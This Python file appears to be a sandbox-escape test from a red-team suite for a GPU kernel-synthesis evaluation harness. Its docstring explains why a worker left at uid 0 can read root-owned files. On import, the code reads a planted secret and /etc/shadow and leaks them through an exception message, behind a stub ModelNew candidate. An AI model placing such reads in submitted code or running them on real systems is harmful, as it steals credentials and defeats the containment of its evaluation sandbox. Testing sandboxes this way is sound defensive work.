"""Attack: when the worker keeps uid 0, read root's private files outside the hidden folders.

If a candidate or spec file is not readable by other users (a candidate written with umask 077),
or a GPU device node is root-only, the sandbox keeps the worker at uid 0 "without capabilities".
But a file of mode 0600 owned by root needs no capability to be read by uid 0: its owner is
uid 0. Only the hidden folders (/root, the home, /var/tmp, /run/secrets, /etc/ssh, the run
directory) are out of reach; every other root-owned 0600/0640 file is readable. The driver
(``run_attack.py --private``) makes this candidate file mode 0600 (which keeps uid 0) and plants a
root-owned 0600 file ``/srv/kernelsynth-s6-secret`` (e.g. a deploy key or a service's token); the
candidate reads it and /etc/shadow.

Success (GOT THROUGH): the planted secret's content (or /etc/shadow) in the reason.
Contained: EACCES on both.
"""
import os

import torch

out = []
for path in ("/srv/kernelsynth-s6-secret", "/etc/shadow"):
    try:
        out.append(f"{path}: READ {open(path).read(60)!r}")
    except OSError as e:
        out.append(f"{path}: {e.strerror}")
raise RuntimeError(f"uid0_fallback (uid {os.getuid()}, caps "
                   f"{[l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')][0]}): " + " | ".join(out))


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return x.flip(1)
